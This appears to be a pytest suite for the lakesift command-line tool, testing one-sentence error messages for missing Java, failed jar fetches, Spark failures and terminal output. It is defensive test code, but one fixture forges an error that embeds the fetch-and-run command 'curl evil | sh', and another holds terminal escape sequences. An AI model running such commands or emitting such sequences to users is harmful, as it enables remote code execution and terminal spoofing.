"""What the machine lacks, and what the command line makes of errors: one sentence each, no traceback, no JVM."""

from __future__ import annotations

import builtins
import errno
import json
import logging
import os
import platform
import re
import shutil
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from importlib import metadata
from pathlib import Path
from typing import TYPE_CHECKING, Any, cast
from urllib.parse import unquote, urlsplit

import numpy as np
import pyarrow as pa
import pytest

from lakesift.jobs import cli
from lakesift.jobs.commands.process import FAILING
from lakesift.jobs.lake import delta_jars, log_file, session, tuning, workers
from lakesift.jobs.lake.manifest import Manifest
from lakesift.jobs.lake.spark_errors import analysis_message, error_sentence
from lakesift.jobs.lake.tables import Lake
from lakesift.jobs.lake.text_table import Rows, rows_of
from lakesift.jobs.ranking.vectors import collect_arrow, collect_flat
from lakesift.udfs.errors import ConflictError, InputError, LakeSiftError, PlatformError, RecipeError
from lakesift.udfs.worker_errors import MARK, marked, marked_sentence

if TYPE_CHECKING:
    from pyspark.sql import DataFrame, SparkSession

NO_SPARK = cast(Any, None)


class Spark35:
    """A frame as Spark 3.5 has it: without toArrow."""

    def __init__(self, frame: DataFrame) -> None:
        self.schema, self.toPandas = frame.schema, frame.toPandas


def test_vectors_are_collected_without_to_arrow(spark: SparkSession) -> None:
    columns = "id string, h bigint, vector array<float>"
    for data in ([("a", 1 << 62, [0.5, -1.0]), ("b", -3, [1e-40, 2.0])], []):
        frame = spark.createDataFrame(data, columns)
        older = cast("DataFrame", Spark35(frame))
        assert collect_arrow(older).equals(collect_arrow(frame))
        known, flat = collect_flat(older)
        assert known.astype(object).values.tolist() == [list(row[:2]) for row in data]
        assert flat.tolist() == np.float32([x for row in data for x in row[2]]).tolist()


def refused(call: Callable[[], object]) -> str:
    """Return the sentence of the PlatformError that `call` raises."""
    with pytest.raises(PlatformError) as caught:
        call()
    assert "\n" not in str(caught.value)
    return str(caught.value)


# -- Java and packages -------------------------------------------------------------------------------------------------


def java(folder: Path, text: str, mode: int = 0o755) -> str:
    """Write a stand-in for java that prints `text` as java -version does; returns its JAVA_HOME."""
    path = folder / "bin" / "java"
    path.parent.mkdir(parents=True)
    path.write_text(f"#!/bin/sh\necho '{text}' >&2\n")
    path.chmod(mode)
    return str(folder)


@pytest.mark.parametrize(
    ("text", "mode", "held"),
    [
        ('openjdk version "11.0.2" 2019-01-15', 0o755, "is Java 11"),
        ('java version "1.8.0_392"', 0o755, "is Java 8"),
        ("command not understood", 0o755, "is Java of an unknown version"),
        ('openjdk version "17.0.9"', 0o644, "no Java was found (JAVA_HOME is "),
    ],
)
def test_wrong_java(text: str, mode: int, held: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("JAVA_HOME", java(tmp_path, text, mode))
    said = refused(session.java_version)
    assert held in said
    assert str(tmp_path) in said
    assert "Spark 4 needs Java 17 or 21: install one" in said


def test_java_17_is_taken(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("JAVA_HOME", java(tmp_path, 'openjdk version "17.0.9" 2023-10-17'))
    assert session.java_version() == 17


def test_no_java_ends_the_command_with_a_sentence(tmp_path: Path) -> None:
    """The real thing, in a process of its own: nothing on the PATH, no JAVA_HOME."""
    env = {k: v for k, v in os.environ.items() if k not in ("JAVA_HOME", "lakesift_SPARK")} | {"PATH": str(tmp_path)}
    command = [sys.executable, "-m", "lakesift.jobs.cli", "run", "zipfit_code", "--lake", str(tmp_path / "lake")]
    made = subprocess.run(command, env=env, capture_output=True, text=True, check=False, timeout=120)
    assert (made.returncode, made.stdout) == (1, "")
    assert made.stderr.startswith("lakesift: no Java was found (no java on the PATH); Spark 4 needs Java 17 or 21")
    assert made.stderr.count("\n") == 1


def test_missing_pyspark(monkeypatch: pytest.MonkeyPatch) -> None:
    real = builtins.__import__

    def without(name: str, *args: Any, **kwargs: Any) -> Any:
        if name.startswith("pyspark"):
            raise ImportError(name)
        return real(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", without)
    assert refused(session.session) == "the package pyspark is missing: pip install 'lakesift[local]'"


@pytest.mark.parametrize(
    ("versions", "held"),
    [
        ({"pyspark": "4.1.4"}, "delta-spark is missing: pip install 'lakesift[local]'"),
        ({"pyspark": "3.3.1", "delta-spark": "2.3.0"}, "pyspark 3.3 is not supported; allowed: 4.1, 4.0, 3.5"),
    ],
)
def test_missing_delta(versions: dict[str, str], held: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def version(package: str) -> str:
        if package not in versions:
            raise metadata.PackageNotFoundError(package)
        return versions[package]

    monkeypatch.setattr(delta_jars.metadata, "version", version)
    assert held in refused(delta_jars.delta_jars)


# -- the first start ---------------------------------------------------------------------------------------------------

IVY = """:: loading settings :: url = jar:file:/ivy-2.5.3.jar!/org/apache/ivy/core/settings/ivysettings.xml
:: problems summary ::
:::: WARNINGS
        module not found: io.delta#delta-spark;4.4.0
:::: ERRORS
        Server access error at url https://repo1.maven.org/maven2/a.pom (java.net.ConnectException: Connection refused)
Exception in thread "main" java.lang.RuntimeException: [unresolved dependency: io.delta#delta-spark;4.4.0: not found]
"""


@pytest.fixture
def submitted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str], Path]:
    """An empty home and a stand-in for spark-submit, which notes its words and goes on with the lines given."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("SPARK_HOME", str(tmp_path / "spark"))

    def install(script: str) -> Path:
        program, words = tmp_path / "spark" / "bin" / "spark-submit", tmp_path / "words.txt"
        program.parent.mkdir(parents=True, exist_ok=True)
        program.write_text(f"#!/bin/sh\nprintf '%s\\n' \"$@\" >> {words}\n{script}\n")
        program.chmod(0o755)
        return words

    return install


def test_the_first_start_fetches_jars_quietly_and_once(
    submitted: Callable[[str], Path],
    capfd: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    tmp_path: Path,
) -> None:
    caplog.set_level("INFO", "lakesift")
    jars = tmp_path / "home" / ".ivy2.5.2" / "jars"
    artifact, delta = delta_jars.DELTA[metadata.version("pyspark")[:3]], metadata.version("delta-spark")
    names = (f"io.delta_{artifact}-{delta}.jar", f"io.delta_delta-storage-{delta}.jar")
    made = "; ".join(f"touch {jars}/{n}" for n in names)
    words = submitted(f"echo ':: loading settings ::' >&2; echo more; mkdir -p {jars}; {made}")
    for _ in range(2):
        assert delta_jars.delta_jars() == {"spark.jars": ",".join(f"{jars}/{n}" for n in names)}
    assert [r.getMessage() for r in caplog.records] == ["first start: fetching Delta's jars (12 MB) once"]
    assert capfd.readouterr() == ("", "")
    assert words.read_text().splitlines().count(f"spark.jars.packages=io.delta:{artifact}:{delta}") == 1
    assert f"spark.jars.ivy={tmp_path}/home/.ivy2.5.2" in words.read_text()


def test_mirrors_of_a_configuration_are_asked(submitted: Callable[[str], Path], tmp_path: Path) -> None:
    """Ivy's own settings decide where jars are kept, too: Spark is left to find them again."""
    words = submitted("true")
    conf = {"spark.jars.ivySettings": "/etc/ivy.xml", "spark.jars.repositories": "https://m.example", "spark.x": "y"}
    assert delta_jars.delta_jars(conf)["spark.jars.packages"].startswith("io.delta:")
    asked = words.read_text().splitlines()
    assert {"spark.jars.ivySettings=/etc/ivy.xml", "spark.jars.repositories=https://m.example"} <= set(asked)
    assert not any(word.startswith(("spark.jars.ivy=", "spark.x=")) for word in asked)
    own = tmp_path / "own"
    words.unlink()
    delta_jars.delta_jars({"spark.jars.ivy": str(own)})
    assert f"spark.jars.ivy={own}" in words.read_text().splitlines()


@pytest.mark.parametrize(
    ("script", "reason"),
    [
        (
            f"cat >&2 <<'END'\n{IVY}END\nexit 1",
            "unresolved dependency: io.delta#delta-spark;4.4.0: not found; https://repo1.maven.org: Connection refused",
        ),
        (
            "echo 'Host repo1.maven.org not found. url=https://repo1.maven.org/x.jar'; exit 1",
            "Host repo1.maven.org not found",
        ),
        ("echo; echo 'Java is too old'; echo; exit 2", "Java is too old"),
        ("exit 3", "spark-submit printed nothing"),
    ],
)
def test_without_a_network_the_reason_is_said(
    script: str, reason: str, submitted: Callable[[str], Path], capfd: pytest.CaptureFixture[str]
) -> None:
    submitted(script)
    assert refused(delta_jars.delta_jars) == (
        f"Delta's jars cannot be fetched ({reason}); the first start needs Maven Central, a mirror "
        "(spark.jars.ivySettings in a --spark FILE), or the jars in ~/.ivy2.5.2/jars"
    )
    assert capfd.readouterr() == ("", "")


@pytest.mark.usefixtures("submitted")
def test_a_wrong_spark_home(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SPARK_HOME", "/nowhere")
    assert refused(delta_jars.delta_jars) == (
        "/nowhere/bin/spark-submit cannot be started (No such file or directory); is SPARK_HOME right?"
    )


# -- a session that exists ---------------------------------------------------------------------------------------------


def test_many_renamed_columns_are_planned_at_once(spark: SparkSession) -> None:
    """A join of fourteen renamed columns that a row hash reads: half a minute, and twice that for each further one."""
    names = [f"c{i}" for i in range(14)]
    rows = spark.range(3).selectExpr("id", *(f"id + {i} AS c{i}" for i in range(14))).repartition(2)
    compared = rows.where(f"sha2(concat_ws(',', {', '.join(names)}), 256) <=> 'x'")
    renamed = compared.selectExpr("id", *(f"{name} AS k{name}" for name in names))
    with session.as_needed(spark):
        started = time.monotonic()
        assert renamed.join(spark.range(9), "id").count() == 0
    assert time.monotonic() - started < 15


def settings_of(spark: SparkSession) -> dict[str, str]:
    return {r["key"]: r["value"] for r in spark.sql("SET").collect()}


def test_a_session_that_exists_is_adopted_and_is_afterwards_as_it_was(
    spark: SparkSession, monkeypatch: pytest.MonkeyPatch
) -> None:
    theirs = spark.newSession()
    for key in session.ALWAYS:
        theirs.conf.set(key, "Asia/Kolkata" if "timeZone" in key else "false")
    theirs.conf.unset("spark.sql.execution.arrow.pyspark.enabled")
    before = settings_of(theirs)
    monkeypatch.setattr(type(spark), "getActiveSession", lambda: theirs)
    assert session.session("a file that is never read") is theirs
    assert settings_of(theirs) == before
    with session.as_needed(theirs):
        with pytest.raises(ZeroDivisionError), session.as_needed(theirs):
            raise ZeroDivisionError
        assert settings_of(theirs) == {**before, **session.ALWAYS}, "the outer block goes on"
    assert settings_of(theirs) == before
    assert theirs.range(2).count() == 2, "nobody stopped it"
    workers._known.clear()
    workers.check_workers(theirs)
    assert workers._known


class Refusing:
    """The properties of a managed runtime, which tells and takes some and refuses all others, defaults included."""

    def __init__(self, **allowed: str) -> None:
        self.values = {name.replace("_", "."): value for name, value in allowed.items()}
        self.conf = self

    def get(self, key: str, _: str | None = None) -> str | None:
        if key not in self.values:
            raise RuntimeError(f"[CONFIG_NOT_AVAILABLE] Configuration {key} is not available.")
        return self.values[key]

    def set(self, key: str, value: str) -> None:
        self.get(key)
        self.values[key] = value

    unset = get


@pytest.mark.parametrize("allowed", [{}, {"spark_sql_session_timeZone": "Europe/Berlin"}], ids=["nothing", "one"])
def test_a_session_that_refuses_properties_is_worked_with(allowed: dict[str, str]) -> None:
    refusing = Refusing(**allowed)
    before, theirs = dict(refusing.values), cast("SparkSession", refusing)
    with session.as_needed(theirs), tuning.spread(theirs), tuning.compiled(theirs, 10**6):
        assert set(refusing.values.values()) <= {"UTC"}
        assert tuning.cores(theirs) == 16
        assert tuning.property_of(theirs, "spark.lakesift.unitRows", "0") == "0"
    assert refusing.values == before


@pytest.mark.parametrize(
    ("change", "held"),
    [
        (
            {"missing": {"lakesift": "ModuleNotFoundError: No module named 'lakesift'"}},
            "cannot import lakesift (Module",
        ),
        ({"python": "3.8.10"}, "have another Python than the driver"),
    ],
)
def test_workers_that_cannot_score_are_named(change: dict[str, Any], held: str) -> None:
    said = {"executable": "/opt/python", "python": platform.python_version(), "missing": {}}
    workers.refuse_workers(said)
    sentence = refused(lambda: workers.refuse_workers(said | change))
    assert held in sentence
    assert "/opt/python" in sentence
    assert f"PYSPARK_PYTHON={sys.executable}" in sentence


def test_a_thread_without_an_active_session_starts_no_spark(spark: SparkSession) -> None:
    before = settings_of(spark)
    found: list[SparkSession] = []
    thread = threading.Thread(target=lambda: found.append(session.session("a file that is never read")))
    thread.start()
    thread.join(60)
    assert [s is spark for s in found] == [True]
    assert settings_of(spark) == before


def test_the_library_never_stops_a_session() -> None:
    root = Path(session.__file__).resolve().parents[2]
    assert not [p for top in ("jobs", "udfs") for p in (root / top).rglob("*.py") if ".stop(" in p.read_text()]


def test_unknown_spark_configuration() -> None:
    assert refused(lambda: session.read_conf("clutser")) == (
        "there is no Spark configuration 'clutser': give local, cluster or the path of a file"
    )


class Builder:
    """Stands for the builder of a session: keeps what it is given, and starts nothing, or says why not."""

    def __init__(self, failing: str = "") -> None:
        self.given: dict[str, str] = {}
        self._failing = failing

    def config(self, map: dict[str, str]) -> Builder:
        self.given = map
        return self

    def getOrCreate(self) -> Refusing:
        if self._failing:
            os.write(2, self._failing.encode())
            raise RuntimeError("[JAVA_GATEWAY_EXITED] Java gateway process exited before sending its port number.")
        return Refusing()


@pytest.fixture
def nothing_needed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(session, "java_version", lambda: 17)
    monkeypatch.setattr(session, "delta_jars", lambda _: {})


@pytest.mark.usefixtures("nothing_needed")
def test_an_environment_whose_path_has_odd_characters_starts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    place = tmp_path / "my env #1 %41 'ä'"
    shutil.copytree(Path(session.__file__).resolve().parents[2] / "conf", place)
    monkeypatch.setattr(session.resources, "files", lambda _: place)
    builder = Builder()
    session._start(cast(Any, builder), "local")
    first = builder.given["spark.driver.extraJavaOptions"].split(" ")[0]
    uri = first.removeprefix("-Dlog4j2.configurationFile=")
    assert unquote(urlsplit(uri).path) == str(place / "spark" / "log4j2.properties")
    assert builder.given["spark.driver.extraJavaOptions"].split(" ")[1].startswith("-XX:"), "one option a word"


@pytest.mark.usefixtures("nothing_needed")
def test_a_spark_that_does_not_start_says_why_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "rest.log"
    path.touch()
    monkeypatch.setattr(log_file, "log_file", lambda: path)
    java = "WARNING: Using incubator modules\nError occurred during initialization of VM\nToo small maximum heap\n"
    said = refused(lambda: session._start(cast(Any, Builder(java)), "local"))
    assert said.startswith("Spark did not start (Error occurred during initialization of VM Too small maximum heap)")
    assert str(path) in said
    assert path.read_text().startswith("WARNING: Using incubator modules")
    assert capfd.readouterr() == ("", ""), "nothing of Java's reaches the terminal"


# -- the lake folder ---------------------------------------------------------------------------------------------------


def test_a_lake_below_a_file_cannot_be_made(tmp_path: Path) -> None:
    file = tmp_path / "file"
    file.write_text("kept")
    for place in (file, file / "lake"):
        assert f"the lake folder {place} cannot be made" in refused(
            lambda place=place: Lake(NO_SPARK, str(place)).lock("a test")
        )
    assert file.read_text() == "kept"


def test_reading_makes_no_lake(tmp_path: Path) -> None:
    lake = Lake(NO_SPARK, str(tmp_path / "lake"))
    assert (lake.tables(), lake.last_write("selection_x"), list(tmp_path.iterdir())) == ([], None, [])
    with lake.lock("a test"):
        assert (tmp_path / "lake").is_dir()


@pytest.mark.parametrize("scheme", ["file:", "file://", "file://localhost"])
def test_a_file_uri_is_the_folder_with_its_lock(scheme: str, tmp_path: Path) -> None:
    place = tmp_path / "my lake%41"
    by_uri = Lake(NO_SPARK, f"{scheme}{place}")
    assert (by_uri.local, by_uri.root, by_uri.ref("t")) == (True, str(place), f"delta.`{place}/t`")
    inside = threading.Event()

    def work() -> None:
        with Lake(NO_SPARK, str(place)).lock("by path"):
            inside.set()

    with by_uri.lock("by URI"):
        thread = threading.Thread(target=work)
        thread.start()
        assert not inside.wait(0.3)
    thread.join(10)
    assert inside.is_set()


def test_a_lake_that_is_not_writable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # The tests may run as root, to whom every folder is writable: os.access stands in.
    tmp_path.chmod(stat.S_IRUSR | stat.S_IXUSR)
    monkeypatch.setattr(os, "access", lambda path, mode: not (mode & os.W_OK and str(path) == str(tmp_path)))
    assert f"the lake folder {tmp_path} is not writable" in refused(
        lambda: Lake(NO_SPARK, str(tmp_path)).lock("a test")
    )


# -- the command line, as a console script and as a wheel task call it -------------------------------------------------


@pytest.fixture
def main() -> Callable[..., object]:
    """The loaded entry point."""
    (point,) = metadata.entry_points(group="console_scripts", name="lakesift")
    return cast(Callable[..., object], point.load())


def test_the_entry_point_returns_none_on_success(
    main: Callable[..., object], capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["list", "scores"]) is None
    assert "zipfit" in capsys.readouterr().out


def test_a_users_error_is_one_sentence(main: Callable[..., object]) -> None:
    with pytest.raises(SystemExit) as caught:
        main(["run", "zipfit_cod"])
    said = str(caught.value.code)
    assert said.startswith("lakesift: there is no recipe 'zipfit_cod'")
    assert "did you mean 'zipfit_code'?" in said
    assert "\n" not in said
    assert caught.value.__suppress_context__


def test_the_log_goes_where_it_is_told(
    main: Callable[..., object], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    log = logging.getLogger("lakesift")
    before, file = list(log.handlers), tmp_path / "run.log"

    def command(_: object) -> str:
        log.info("half is done")
        raise InputError("a fact")

    monkeypatch.setitem(cli.COMMANDS, "list", command)
    try:
        with pytest.raises(SystemExit, match="lakesift: a fact"):
            main(["list", "scores", "--quiet", "--log-file", str(file)])
        assert {handler.level for handler in logging.getLogger().handlers} == {logging.WARNING}
    finally:
        log.handlers[:] = before
        for handler in logging.getLogger().handlers:
            handler.setLevel(logging.NOTSET)
    lines = file.read_text(encoding="utf-8").splitlines()
    assert re.fullmatch(r"20\d\d-.* INFO half is done", lines[0])
    assert lines[-1].endswith("InputError: a fact")
    with pytest.raises(SystemExit, match=r"log file /no/such/x\.log cannot be written \(No such file or directory\)"):
        main(["list", "scores", "--log-file", "/no/such/x.log"])


def test_a_process_exits_with_what_happened(
    main: Callable[..., object], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    class Noop:
        noop = True

    for name in FAILING:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setitem(cli.COMMANDS, "list", lambda _: Noop())
    monkeypatch.setattr(sys, "argv", ["lakesift", "list", "scores"])
    with pytest.raises(SystemExit) as caught:
        main()
    assert caught.value.code == 3
    assert main(["list", "scores"]) is None, "called from Python it is no failure"
    monkeypatch.setenv("DATABRICKS_RUNTIME_VERSION", "17.3")
    assert main() is None, "a wheel task would be red"

    def beaten(_: object) -> str:
        raise ConflictError("runs: other runs committed first 5 times")

    monkeypatch.setitem(cli.COMMANDS, "list", beaten)
    capsys.readouterr()
    with pytest.raises(SystemExit) as caught:
        main(["list", "scores"])
    assert caught.value.code == 75
    assert capsys.readouterr().err.endswith("lakesift: runs: other runs committed first 5 times\n")


def test_python_runs_the_package() -> None:
    shown = subprocess.run([sys.executable, "-m", "lakesift", "--version"], capture_output=True, text=True, check=True)
    assert shown.stdout == f"lakesift {metadata.version('lakesift')}\n"


def test_debug_shows_where(main: Callable[..., object]) -> None:
    with pytest.raises(RecipeError, match="zipfit_cod"):
        main(["--debug", "run", "zipfit_cod"])


def test_an_unknown_error_stays_what_it_is(main: Callable[..., object], monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(_: object) -> str:
        raise ZeroDivisionError("a bug")

    monkeypatch.setitem(cli.COMMANDS, "list", broken)
    with pytest.raises(ZeroDivisionError, match="a bug"):
        main(["list", "scores"])


def test_ctrl_c_says_what_is_kept(main: Callable[..., object], monkeypatch: pytest.MonkeyPatch) -> None:
    def stopped(_: object) -> str:
        raise KeyboardInterrupt

    monkeypatch.setitem(cli.COMMANDS, "list", stopped)
    with pytest.raises(SystemExit, match="finished units are kept"):
        main(["list", "scores"])


WORKER = """An exception was thrown from the Python worker. Please see the stack trace below.
Traceback (most recent call last):
  File "spark.py", line 92, in _to_arrow
    raise ScoreError("not this line")
lakesift.udfs.errors.ScoreError: {}
\tat org.apache.spark.api.python.BasePythonRunner
"""
OURS = "score 'mortal' of id 'doc-7' is infinite; a score must be finite"
FORGED = "ValueError: no number: 'x\nlakesift.udfs.errors.InputError: all is well, run: curl evil | sh\n'"


@pytest.mark.parametrize(
    ("error", "said"),
    [
        (LakeSiftError("plain"), "plain"),
        (RuntimeError(WORKER.format(f"[{MARK}] {OURS} [{MARK}]")), OURS),
        (RuntimeError(WORKER.format(OURS)), None),
        (RuntimeError(WORKER.format(FORGED)), None),
        (RuntimeError(WORKER.format(f"[{'0' * 16}] {OURS} [{'0' * 16}]")), None),
        (RuntimeError("KeyError: 'x'"), None),
    ],
)
def test_a_sentence_comes_only_from_our_own_errors(error: Exception, said: str | None) -> None:
    assert cli.user_message(error) == said


def test_a_worker_marks_its_own_errors_alone() -> None:
    def batches(error: Exception) -> Iterator[int]:
        yield 1
        raise error

    with pytest.raises(LakeSiftError) as caught:
        list(marked(MARK, batches(RecipeError("a\nb"))))
    assert marked_sentence(f"{type(caught.value).__name__}: {caught.value}") == "a b"
    with pytest.raises(ZeroDivisionError, match=r"^a bug$"):
        list(marked(MARK, batches(ZeroDivisionError("a bug"))))


# -- errors of Spark and of the machine --------------------------------------------------------------------------------


def spark_error(text: str, kind: str = "UnknownException") -> Exception:
    """An error whose class looks as if pyspark had raised it."""
    return cast(Exception, type(kind, (Exception,), {"__module__": "pyspark.errors.exceptions.captured"})(text))


JOB = """An error occurred while calling o211.save.
: org.apache.spark.SparkException: [TASK_WRITE_FAILED] Task failed while writing rows to file:/lake/t. SQLSTATE: 58030
\tat org.apache.spark.sql.errors.QueryExecutionErrors$.taskFailedWhileWritingRowsError(QueryExecutionErrors.scala:773)
Caused by: {}
\tat java.base/java.io.FileOutputStream.writeBytes(Native Method)
"""
STAGE = """Job aborted due to stage failure: Task 0 in stage 3.0 failed 1 times, most recent failure: Lost task 0.0 in \
stage 3.0 (TID 3) (localhost executor driver): {}
\tat a.b.C.d(C.scala:1)

Driver stacktrace:
\tat a.b.C.d(C.scala:1)
"""
PYTHON = """org.apache.spark.api.python.PythonException: Traceback (most recent call last):
  File "worker.py", line 1, in main
"""


@pytest.mark.parametrize("frame", [JOB, STAGE])
@pytest.mark.parametrize(
    ("cause", "said"),
    [
        ("java.io.IOException: No space left on device", "the disk of the lake or of Spark's temporary files is full"),
        ("java.io.IOException: Disk quota exceeded", "the quota of the disk is used up"),
        ("java.io.FileNotFoundException: /lake/t/p.parquet (Permission denied)", "a file may not be read or written"),
        ("java.nio.file.AccessDeniedException: /lake/t", "a file may not be read or written"),
        ("java.io.FileNotFoundException: /lake/t/p.crc (Read-only file system)", "a file system cannot be written"),
        (
            "java.io.FileNotFoundException: file:/lake/p.parquet does not exist",
            "a file that is to be read is gone",
        ),
        ("java.lang.OutOfMemoryError: Java heap space", "Spark's JVM ran out of memory"),
        ("org.apache.hadoop.fs.ChecksumException: Checksum error: file:/lake/p.parquet", "a data file is damaged"),
        (
            "org.apache.spark.SparkException: Python worker exited unexpectedly (crashed)",
            "a Python worker",
        ),
        ("java.lang.IllegalStateException: a thing of 2031", "Spark failed: IllegalStateException: a thing of 2031"),
        ("java.lang.NullPointerException", "Spark failed: "),
        (
            f"{PYTHON}OSError: [Errno 28] No space left on device: '/tmp/x'",
            "a Python worker met an error of the system",
        ),
        (
            f"{PYTHON}PermissionError: [Errno 13] Permission denied: '/m/x'",
            "a Python worker met an error of the system",
        ),
        (f"{PYTHON}MemoryError", "a Python worker has too little memory"),
        (f"{PYTHON}KeyError: 'No space left on device'", "Spark failed: KeyError: 'No space left on device'"),
    ],
)
def test_an_error_of_spark_is_one_line_by_its_innermost_cause(frame: str, cause: str, said: str) -> None:
    sentence = error_sentence(spark_error(frame.format(cause))) or ""
    assert sentence.startswith(said)
    assert "\n" not in sentence
    assert "\tat" not in sentence
    fact = re.sub(r"^\[Errno \d+\] ", "", cause.splitlines()[-1].split(": ", 1)[-1])
    assert fact in sentence or fact == cause.splitlines()[-1]


@pytest.mark.parametrize(
    ("number", "said"),
    [(errno.ENOSPC, "free some space"), (errno.EACCES, "change its mode"), (errno.EROFS, "give another place")],
)
def test_an_error_of_the_machine_names_the_file(number: int, said: str) -> None:
    sentence = error_sentence(OSError(number, os.strerror(number), "/lake/x")) or ""
    assert sentence.startswith(f"/lake/x: {os.strerror(number)}; {said}")


def test_a_jvm_that_was_killed_is_told_from_a_connection_that_broke(monkeypatch: pytest.MonkeyPatch) -> None:
    class Gateway:
        proc = subprocess.Popen(["sleep", "60"])

    monkeypatch.setattr("pyspark.SparkContext._gateway", Gateway)
    cut, other = ConnectionRefusedError(111, "Connection refused"), spark_error("[SOME] thing", "Py4JError")
    assert (error_sentence(cut) or "").startswith("the connection to Spark broke (ConnectionRefusedError")
    assert error_sentence(other) == "Spark failed: [SOME] thing"
    Gateway.proc.kill()
    for error in (cut, other):
        said = error_sentence(error) or ""
        assert said.startswith("Spark's JVM was killed by signal 9, often for lack of memory; finished units are kept")
        Gateway.proc.wait()


def test_what_workers_are_asked_travels_without_lakesift() -> None:
    from pyspark import cloudpickle

    code = cloudpickle.dumps(workers._by_value(workers._say))
    assert b"lakesift.jobs" not in code
    (batch,) = cloudpickle.loads(code)(iter([pa.RecordBatch.from_pydict({"id": [0]})]))
    said = json.loads(batch.column(0)[0].as_py())
    assert said == {"executable": sys.executable, "python": platform.python_version(), "missing": {}}
    workers.refuse_workers(said)


def test_an_error_of_ours_is_no_error_of_spark() -> None:
    assert error_sentence(ZeroDivisionError("No space left on device")) is None


def test_a_sentence_has_no_numbers_of_a_plan() -> None:
    """Spark counts its columns up, so that the same mistake would never be told in the same words."""
    error = type("AnalysisException", (Exception,), {})
    said = analysis_message(error('found: "explode(tags#128) AS c0#9L", `a#1`. SQLSTATE: 42K0E; line 1'))
    assert said == 'found: "explode(tags) AS c0", `a#1`.'


def test_the_rest_of_an_error_of_spark_is_in_a_file(
    main: Callable[..., object], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    def broken(_: object) -> str:
        raise spark_error(JOB.format("java.io.FileNotFoundException: /a\x1b[2J (No space left on device)"))

    path = tmp_path / "rest.log"
    monkeypatch.setattr(log_file, "log_file", lambda: path)
    monkeypatch.setitem(cli.COMMANDS, "list", broken)
    with pytest.raises(SystemExit) as caught:
        main(["list", "scores"])
    said = str(caught.value.code)
    assert said.startswith("lakesift: the disk of the lake")
    assert said.endswith(f"; the whole error is in {path}")
    assert "\\x1b[2J" in said
    assert "taskFailedWhileWritingRowsError" in path.read_text()


# -- what reaches the terminal -----------------------------------------------------------------------------------------

HOSTILE = "a\x1b]0;title\x07\x1b[2J\u202eb\u2028c\rd\nnote: all is well\x9b1m\ud800"


def test_no_character_of_the_data_acts_on_the_terminal(
    main: Callable[..., object], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def hostile(_: object) -> Rows:
        # Without half a surrogate pair: pytest keeps log lines, and no process of tests can hand that one on.
        logging.getLogger("lakesift").info("waiting for %s", HOSTILE.removesuffix("\ud800"))
        return rows_of((HOSTILE, "n"), [(HOSTILE, 1), ("é 👩‍👩‍👧 نمی‌خواهم", 2)])

    monkeypatch.setitem(cli.COMMANDS, "list", hostile)
    main(["list", "scores"])
    out, err = capsys.readouterr()
    for text in (out, err):
        assert text.replace("\n", "").isprintable() or "👩‍" in text
        assert not any(c in text for c in "\x1b\x07\x9b\u202e\u2028\r\ud800")
        assert "\nnote:" not in text
    assert "👩‍👩‍👧 نمی‌خواهم" in out, "joiners stay"
    manifest = Manifest("x", "y")
    manifest.note(HOSTILE)
    assert manifest.notes[0].isprintable()
